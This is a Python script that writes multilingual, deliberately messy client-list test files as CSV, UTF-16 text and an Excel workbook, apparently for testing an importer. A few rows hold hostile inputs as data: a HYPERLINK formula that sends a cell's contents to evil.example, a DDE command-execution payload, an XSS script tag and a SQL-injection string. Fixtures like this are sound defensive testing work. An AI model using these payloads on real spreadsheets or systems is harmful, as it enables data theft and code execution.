"""Make the messy client lists beside this file, the same bytes every time.

One list as an accountant might really keep it, as five programs would save it: unexpected headers,
a title above them, duplicates, formulas, bad addresses, blank rows, names of several alphabets, a
name that is too long, and a totals row. Run it from anywhere: `python tests/data/make_messy_clients.py`.
"""

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import xlsxwriter

HERE = Path(__file__).parent
TITLE = "Client list Bergmann & Partner (all offices), as of 31.03.2026"
HEADER = (
    "Company / Name",
    "Contact person",
    "E-Mail Adresse",
    "Tel.",
    "VAT no",
    "Street",
    "ZIP",
    "City",
    "Country",
    "Client since",
    "Annual fee",
    "",
    "Remarks",
)
BLANK = ("",) * len(HEADER)

# Company, contact, e-mail, telephone, VAT, street, ZIP, city, country, since, fee, (unnamed), remarks
# One client a line reads like the list it is.
# fmt: off
CLIENTS: tuple[tuple[str, ...], ...] = (
    ("Müller Maschinenbau GmbH", "Jürgen Müller", "j.mueller@mueller-maschinenbau.example", "+49 40 123456", "DE129273398", "Königstraße 5", "22767", "Hamburg", "DE", "01.04.2014", "4.800,00", "x", ""),
    ("Bäckerei Schröder", "Änne Schröder", "info@baeckerei-schroeder.example", "040 / 77 88 99", "", "Große Gasse 12", "21073", "Hamburg", "Germany", "2016-11-15", "1.150,00", "", "Kasse: TSE since 2020"),
    ("Schmidt & Söhne OHG", "Götz Schmidt", "schmidt@soehne.example", "+49 (0)30 5550101", "DE811569869", "Unter den Eichen 7", "12205", "Berlin", "Deutschland", "1.7.2009", "3.200", "", 'pays late; "call before dunning"'),
    ("  Schmidt & Söhne  OHG", "Goetz Schmidt", "goetz.schmidt@soehne.example", "0305550101", "DE811569869", "Unter den Eichen 7", "12205", "Berlin", "DE", "2009", "", "", "duplicate of the row above?"),
    ("SCHMIDT & SÖHNE OHG", "", "", "", "", "", "", "Berlin", "", "", "", "", ""),
    ("Harbor Light Books", "Eleanor Whitcombe", "eleanor@harborlight.example", "(020) 7946 0991", "GB 123 4567 82", "14 Quay Street", "BS1 4QA", "Bristol", "UK", "12/05/2018", "2,400.00", "", ""),
    ("O'Brien & Daughters Ltd.", "Siobhán O'Brien", "siobhan@obrien.example", "+353 1 555 0134", "IE6388047V", "3 Ha'penny Row", "D01 X2P3", "Dublin", "Ireland", "2021-02-28", "1,980.00", "", "prefers calls, no e-mail on Fridays"),
    ("Société Générale de Conseil", "Hélène Lefèvre", "h.lefevre@sgc.example", "+33 1 70 36 12 34", "FR83404833048", "12, rue de l’Église", "45000", "Orléans", "France", "2019-09-01", "6 500,00", "", ""),
    ("Établissements Dubois", "François Dubois", "f.dubois@dubois", "+33 3 81 00 00 00", "", "4 bis, quai Vauban", "25000", "Besançon", "FR", "", "", "", "address without a domain ending"),
    ("Peña y Hijos S.L.", "Ángel Peña Muñoz", "angel.pena@penahijos.example", "+34 952 000 111", "ESB58378431", "Calle Señorío 9, 2º B", "29001", "Málaga", "España", "3/1/2020", "2.100", "", ""),
    ("Café Ørsted ApS", "Søren Kjær", "soren@cafe-orsted.example", "+45 33 12 34 56", "DK13585628", "Brønshøjvej 17", "2700", "Brønshøj", "DK", "2017-06-19", "980", "", ""),
    ("Łódzkie Studio Projektowe sp. z o.o.", "Małgorzata Dąbrowska", "m.dabrowska@lodzkiestudio.example", "+48 42 600 00 00", "PL5260001246", "ul. Świętego Jerzego 4", "91-072", "Łódź", "PL", "2022-01-10", "5200", "", "contract in Polish"),
    ("Żółkiewski Transport", "Łukasz Żółkiewski", "biuro@zolkiewski.example", "+48 12 000 22 33", "PL8567346215", "ul. Krakowska 88", "31-066", "Kraków", "Polska", "2015-03-02", "3900", "", ""),
    ("ООО «Ромашка»", "Иван Петрович Сидоров", "i.sidorov@romashka.example", "+7 495 000-00-00", "", "ул. Садовая, 12", "105066", "Москва", "RU", "2013-08-20", "", "", "dormant"),
    ("Видавництво Їжак", "Оксана Шевченко", "oksana@yizhak.example", "+380 44 000 00 00", "", "вул. Хрещатик 1", "01001", "Київ", "UA", "2023-05-05", "1200", "", ""),
    ("Παπαδόπουλος & Υιοί", "Γιώργος Παπαδόπουλος", "giorgos@papadopoulos.example", "+30 210 000 0000", "EL094259216", "Οδός Ερμού 5", "105 63", "Αθήνα", "GR", "2020-10-10", "2750", "", ""),
    ("Szőke Bútor Kft.", "Szőke Gábor", "gabor@szokebutor.example", "+36 96 000 000", "HU12892312", "Árpád út 3", "9022", "Győr", "HU", "2018-12-12", "1650", "", ""),
    ("Dvořák a Nováková s.r.o.", "Žofie Nováková", "zofie@dvorak-novakova.example", "+420 377 000 000", "CZ25123891", "Křížkova 11", "301 00", "Plzeň", "CZ", "2016-02-29", "2300", "", ""),
    ("田中商店", "田中 太郎", "taro@tanaka-shoten.example", "+81 3 0000 0000", "", "千代田区1-1", "100-0001", "東京", "JP", "2024-04-01", "7000", "", "reports in English"),
    ('=HYPERLINK("https://evil.example/?d="&C2,"Open invoice")', "Mallory", "mallory@evil.example", "", "", "", "", "", "", "", "", "", "sent in by a web form"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "", "", "", "", "", "", "", "", "", "", "", ""),
    ("+49 Plumbing Group", "Rolf Anders", "rolf@plus49.example", "+49 89 000111", "", "Isarweg 49", "80331", "München", "DE", "2021", "1.000", "", "the name really begins with a plus"),
    ("-Minus- Design Studio", "Nora Ek", "nora@minus.example", "'+46 8 000 00 00", "SE556703748501", "Sveavägen 2", "111 57", "Stockholm", "SE", "2022-08-01", "1450", "", ""),
    ("Whitfield Dental Practice", "Dr. Anita Whitfield", "anita@@whitfielddental.example", "0161 496 0000", "", "8 Mill Lane", "M1 1AE", "Manchester", "UK", "2017", "3,000.00", "", ""),
    ("Oakley Veterinary Clinic", "Tom Oakley", "tom.oakley at oakleyvets.example", "0113 496 0001", "", "2 Kirkgate", "LS1 6BY", "Leeds", "UK", "", "2,200.00", "", ""),
    ("Nordlicht Energie eG", "Inga Petersen", "inga.petersen@nordlicht.example; office@nordlicht.example", "+49 431 000222", "DE136695976", "Förde 3", "24103", "Kiel", "DE", "2012-03-31", "8.400,00", "", "two addresses in one cell"),
    ("Fjord Fisk AS", "Kåre Øvrebø", "kaare@fjordfisk.example", "+47 55 00 00 00", "NO 974 760 673 MVA", "Bryggen 1", "5003", "Bergen", "NO", "2019-01-01", "5100", "", ""),
    ("Casa São João Lda.", "João Conceição", "JOAO@CASASAOJOAO.EXAMPLE", "+351 22 000 0000", "PT501442600", "Rua das Flores 77", "4050-262", "Porto", "PT", "2020-06-24", "1300", "", ""),
    ("Casa Sao Joao", "Joao Conceicao", "joao@casasaojoao.example", "", "", "", "", "Porto", "PT", "", "", "", "same e-mail as the row above"),
    ("Trattoria Bella Vista S.r.l.", "Lucia D’Angelo", "lucia@bellavista.example", "+39 02 0000 0000", "IT00743110157", "Via dell’Orso 4", "20121", "Milano", "IT", "2018-04-25", "1750", "", ""),
    ("Van den Berg & Zonen B.V.", "Maarten van den Berg", "maarten@vandenberg.example", "+31 20 000 0000", "NL004495445B01", "Keizersgracht 101", "1015 CJ", "Amsterdam", "NL", "2011-11-11", "4500", "", ""),
    ("Ça Va Bien SPRL", "Zoë Maës", "zoe@cavabien.example", "+32 2 000 00 00", "BE0428759497", "Rue Haute 6", "1000", "Bruxelles", "BE", "2021-07-21", "1900", "", ""),
    ("Zürich Treuhand AG", "Urs Bürgi", "urs.buergi@zuerich-treuhand.example", "+41 44 000 00 00", "CHE-116.281.710", "Bahnhofstrasse 1", "8001", "Zürich", "CH", "2010-01-01", "12'000.00", "", ""),
    ("Lumen Architects", "Priya Raman", "priya@lumen-architects.example", "+44 20 7946 0123", "GB987654321", "Studio 5, The Tannery\n40 Tanner Street", "SE1 3UU", "London", "UK", "2023-09-15", "4,250.00", "", "address has two lines"),
    ("Smith, Jones and Partners", "Adam Smith", "adam@sjp.example", "+1 212 555 0100", "", "1 Main St., Suite 200", "10001", "New York", "US", "07/04/2016", "9,900.00", "", "comma in the name"),
    ("Smith, Jones and Partners", "Betty Jones", "betty@sjp.example", "+1 212 555 0101", "", "1 Main St., Suite 200", "10001", "New York", "US", "07/04/2016", "", "", "second contact, entered as a client"),
    ("Kowalczyk", "", "kontakt@kowalczyk.example", "", "", "", "", "Warszawa", "PL", "", "", "", "private person"),
    ("von Hohenstein, Friedrich-Wilhelm", "", "fw@hohenstein.example", "+49 611 000333", "", "Schloßallee 1", "65183", "Wiesbaden", "DE", "1998-01-01", "15.000,00", "", "private person, tax and estate"),
    ("Jane Q. Public", "", "jane.public@mail.example", "555-0199", "", "", "", "", "", "", "", "", ""),
    ("jane q. public", "", "jane.public@mail.example", "555 0199", "", "", "", "", "", "", "", "", "again"),
    ("", "Peter Nameless", "peter@nameless.example", "+49 221 000444", "", "Domplatz 2", "50667", "Köln", "DE", "2020", "", "", "the company name is missing"),
    ("Holding " + "of the United European Hardware and Household Goods Trading Companies " * 5, "Max Long", "max@long-name.example", "", "", "", "", "", "", "", "", "", "name far too long"),
    ("Test", "test", "test@test", "123", "", "", "", "", "", "", "", "", "delete?"),
    ("Grün & Blau Kommunikation", "Bärbel Grün", "baerbel@gruen-blau.example", "+49 711 000555", "DE147799609", "Königsbau 3", "70173", "Stuttgart", "DE", "31.12.2018", "2.750,50", "", ""),
    ("Gruen & Blau Kommunikation", "Baerbel Gruen", "baerbel@gruen-blau.example", "", "", "", "", "", "", "", "", "", ""),
    ("Physio am Park", "Carla Weiß", "carla.weiss@physio-park.example", "0341-000666", "", "Parkstr. 1a", "04103", "Leipzig", "DE", "2019-05-01", "720,00", "", "ZIP begins with a zero"),
    ("Elbflorenz Immobilien KG", "René Clauß", "rene.clauss@elbflorenz.example", "+49 351 000777", "DE140978404", "Brühlsche Terrasse 1", "01067", "Dresden", "DE", "2014-10-03", "3.300,00", "", ""),
    ("Mapleleaf Imports Inc.", "Gérard Tremblay", "gerard@mapleleaf.example", "+1 514 555 0177", "", "900 Rue Sherbrooke O.", "H3A 1G1", "Montréal", "CA", "2022-11-30", "3100", "", ""),
    ("Southern Cross Wines Pty Ltd", "Matilda Ng", "matilda@southerncross.example", "+61 2 5550 0000", "", "1 George St", "2000", "Sydney", "AU", "2021-01-26", "2600", "", ""),
    ("Ağaoğlu Tekstil A.Ş.", "Çağlar Yıldız", "caglar@agaoglu.example", "+90 212 000 00 00", "", "İstiklal Cad. 5", "34430", "İstanbul", "TR", "2020-02-02", "1850", "", ""),
    ("Žydrūno Baldai UAB", "Žydrūnas Čepaitis", "zydrunas@baldai.example", "+370 5 000 0000", "LT119511515", "Gedimino pr. 9", "01103", "Vilnius", "LT", "2019-03-11", "1400", "", ""),
    ("<script>alert('client')</script>", "", "xss@form.example", "", "", "", "", "", "", "", "", "", "from the web form"),
    ("Robert'); DROP TABLE clients;--", "Bobby", "bobby@tables.example", "", "", "", "", "", "", "", "", "", ""),
    ("Hafen-Apotheke e.K.", "Dr. Ute Lübbers", "ute.luebbers@hafen-apotheke.example", "+49 471 000888", "DE114103379", "Am Hafen 2", "27568", "Bremerhaven", "DE", "15.08.2015", "2.000,00", "", ""),
    ("hafen-apotheke  E.K.", "", "", "+49 471 000888", "", "", "", "Bremerhaven", "", "", "", "", "duplicate?"),
    ("Blue Heron Consulting LLC", "Marcus Lee", "marcus@blueheron.example", "+1 (503) 555-0142", "", "77 River Rd", "97201", "Portland, OR", "US", "Sept 2023", "5,500.00", "", ""),
    ("Atelier Noël", "Noël Brontë", "noel@atelier-noel.example", "+33 4 66 00 00 00", "", "1 place de la Maison Carrée", "30000", "Nîmes", "FR", "25/12/2021", "890", "", ""),
    ("Stadtwerke Nürnberg (Tochter)", "Jörg Weiß", "joerg.weiss@swn-tochter.example", "+49 911 000999", "DE133552577", "Äußere Laufer Gasse 8", "90403", "Nürnberg", "DE", "2008-08-08", "21.000,00", "", "fee € 21.000 – fixed until 2027"),
    ("Greenfield Farm", "Hannah Field", "", "07700 900123", "", "Greenfield Lane", "TA1 1AA", "Taunton", "UK", "", "640.00", "", "has no e-mail"),
    ("Queensway Motors", "Imran Shah", "imran@queenswaymotors.example", "0121 496 0555", "GB555666777", "310 Queensway", "B4 6DA", "Birmingham", "UK", "2018-01-31", "2,850.00", "", ""),
)
# fmt: on
BLANK_AFTER = {4, 19, 38, 39, 52}


def rows() -> list[tuple[str, ...]]:
    listed: list[tuple[str, ...]] = [(TITLE,), BLANK, HEADER]
    for index, client in enumerate(CLIENTS):
        listed.append(client)
        if index in BLANK_AFTER:
            listed.append(BLANK)
    return [*listed, BLANK, ("Total", f"{len(CLIENTS)} clients", *BLANK[2:10], "178,230.50", "", "")]


def delimited(delimiter: str, encoding: str, *, line_end: str = "\r\n") -> bytes:
    """The list as text; rows that the encoding has no letters for are left out, as people do."""
    into = io.StringIO(newline="")
    writer = csv.writer(into, delimiter=delimiter, lineterminator=line_end)
    for row in rows():
        try:
            "".join(row).encode(encoding)
        except UnicodeEncodeError:
            continue
        writer.writerow(row)
    return into.getvalue().encode(encoding)


def write_workbook(path: Path) -> None:
    """The list as a workbook: dates, fees and postcodes partly as numbers, a formula in the totals."""
    with xlsxwriter.Workbook(path) as book:
        book.set_properties({"created": datetime(2026, 3, 31, tzinfo=UTC)})
        page = book.add_worksheet("Mandanten 2026")
        day = book.add_format({"num_format": "dd.mm.yyyy"})
        for number, row in enumerate(rows(), start=1):
            for column, text in enumerate(row, start=1):
                if not text:
                    continue
                if HEADER[column - 1] == "ZIP" and text.isdigit():
                    page.write_number(number, column, int(text))
                elif HEADER[column - 1] == "Client since" and len(text) == 10 and text[4] == "-":
                    page.write_datetime(number, column, datetime.fromisoformat(text), day)
                elif row[0] == "Total" and HEADER[column - 1] == "Annual fee":
                    page.write_formula(number, column, "=SUM(L4:L70)", None, 178230.5)
                else:
                    page.write_string(number, column, text)
        book.add_worksheet("Notizen").write_string(0, 0, "ask Ute about the duplicates")


def main() -> None:
    (HERE / "clients-messy.utf8.csv").write_bytes(delimited(",", "utf-8", line_end="\n"))
    (HERE / "clients-messy.utf8-bom.csv").write_bytes(delimited(";", "utf-8-sig"))
    (HERE / "clients-messy.utf16.txt").write_bytes(delimited("\t", "utf-16"))
    (HERE / "clients-messy.cp1252.csv").write_bytes(delimited(";", "cp1252"))
    write_workbook(HERE / "clients-messy.xlsx")


if __name__ == "__main__":
    main()
